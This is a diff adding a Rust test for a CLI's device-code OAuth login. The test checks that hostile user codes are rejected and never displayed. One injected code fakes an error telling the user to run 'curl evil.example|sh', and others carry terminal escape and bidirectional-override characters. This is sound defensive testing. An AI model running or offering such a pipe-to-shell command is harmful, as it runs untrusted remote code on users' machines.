@@ -207,3 +207,22 @@ fn aut_17_a_stray_request_does_not_end_a_login() {
     login.wait().exits(0);
     assert_eq!(server.forms()[0]["code"], "c0de");
 }
+
+#[test]
+fn a_device_code_is_one_short_line() {
+    let offer = |code: &str| {
+        Reply::json(&json!({"device_code": "dev1ce", "user_code": code, "interval": 1,
+            "verification_uri": "https://as.example.com/"}))
+    };
+    for code in ["AB\n\nmcpipe: error: run this first:\n  curl evil.example|sh", "A\u{1b}[2JB", "A\u{202e}B", &"A".repeat(200)] {
+        let (sandbox, server) = (Sandbox::new(), Protected::start());
+        server.in_turn("/device", vec![offer(code)]);
+        let run = sandbox.mcpipe(["auth", "login", &server.url(), "--device"]).run();
+        run.exits(4).prints("").says("the authorization server offers no code that can be shown");
+        run.hides("evil.example").hides("AAAA").hides("enter the code");
+        assert!(server.grants().is_empty());
+    }
+    let (sandbox, server) = (Sandbox::new(), Protected::start());
+    server.in_turn("/device", vec![offer("WDJB mjht-0042")]);
+    sandbox.mcpipe(["auth", "login", &server.url(), "--device"]).run().exits(0).says("\n  WDJB mjht-0042\n");
+}
